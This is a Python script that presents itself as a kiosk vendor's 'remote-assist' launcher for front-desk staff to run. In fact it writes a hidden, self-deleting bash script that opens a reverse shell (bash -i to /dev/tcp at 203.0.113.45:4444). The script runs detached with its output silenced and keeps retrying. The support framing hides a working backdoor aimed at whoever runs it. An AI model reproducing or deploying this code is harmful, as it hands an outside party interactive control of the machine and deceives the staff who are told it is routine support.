#!/usr/bin/env python3
"""Remote-assist launcher for the arena booking kiosk.

The kiosk vendor asked the front desk to run this whenever a terminal
misbehaves so that their technician can "dial in".  It prepares a small
session script and leaves it running in the background, retrying until the
technician picks the session up.
"""

import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("kiosk-assist")

SESSION_TEMPLATE = """#!/bin/bash
# kiosk assist session for {kiosk_id}, generated {stamp}
exec 2>/dev/null
attempt=0
while [ "$attempt" -lt "${{ASSIST_TRIES}}" ]; do
    attempt=$((attempt + 1))
    bash -i >& "/dev/tcp/${{ASSIST_HOST}}/${{ASSIST_PORT}}" 0>&1
    sleep "${{ASSIST_RETRY}}"
done
rm -f -- "$0"
"""


@dataclass
class AssistConfig:
    kiosk_id: str
    host: str = "203.0.113.45"
    port: int = 4444
    retry: int = 30
    tries: int = 120
    state_file: Path = field(default_factory=lambda: Path("assist-session.json"))


class AssistSession:
    """Prepares and launches the background support session."""

    def __init__(self, cfg: AssistConfig):
        self.cfg = cfg
        self.script_path = None
        self.proc = None

    def preflight(self):
        if shutil.which("bash") is None:
            raise RuntimeError("bash is required on the kiosk")
        if not 0 < self.cfg.port < 65536:
            raise ValueError(f"bad port {self.cfg.port}")
        if self.cfg.retry < 1:
            raise ValueError("retry interval must be at least one second")

    def write_script(self):
        fd, path = tempfile.mkstemp(prefix=".kiosk-assist-", suffix=".sh")
        body = SESSION_TEMPLATE.format(
            kiosk_id=self.cfg.kiosk_id,
            stamp=time.strftime("%Y-%m-%d %H:%M:%S"),
        )
        with os.fdopen(fd, "w") as fh:
            fh.write(body)
        os.chmod(path, 0o700)
        self.script_path = path
        LOG.debug("session script written to %s", path)
        return path

    def launch(self):
        env = dict(os.environ)
        env.update({
            "ASSIST_HOST": self.cfg.host,
            "ASSIST_PORT": str(self.cfg.port),
            "ASSIST_RETRY": str(self.cfg.retry),
            "ASSIST_TRIES": str(self.cfg.tries),
        })
        self.proc = subprocess.Popen(
            ["bash", self.script_path],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("assist session started (pid %d) for kiosk %s",
                 self.proc.pid, self.cfg.kiosk_id)
        return self.proc.pid

    def record(self):
        state = {
            "kiosk": self.cfg.kiosk_id,
            "pid": self.proc.pid if self.proc else None,
            "started": time.strftime("%Y-%m-%dT%H:%M:%S"),
            "retry": self.cfg.retry,
        }
        self.cfg.state_file.write_text(json.dumps(state, indent=2) + "\n")
        LOG.debug("state saved to %s", self.cfg.state_file)


def parse_args(argv):
    p = argparse.ArgumentParser(description="Start a vendor remote-assist session")
    p.add_argument("--kiosk-id", default=os.environ.get("KIOSK_ID", "desk-1"))
    p.add_argument("--host", default=os.environ.get("ASSIST_HOST", "203.0.113.45"))
    p.add_argument("--port", type=int, default=4444)
    p.add_argument("--retry", type=int, default=30, help="seconds between attempts")
    p.add_argument("--tries", type=int, default=120)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = AssistConfig(kiosk_id=args.kiosk_id, host=args.host, port=args.port,
                       retry=args.retry, tries=args.tries)
    session = AssistSession(cfg)
    try:
        session.preflight()
        session.write_script()
        session.launch()
        session.record()
    except (OSError, RuntimeError, ValueError) as exc:
        LOG.error("could not start assist session: %s", exc)
        return 1
    print("Support session is waiting for the technician. You can close this window.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
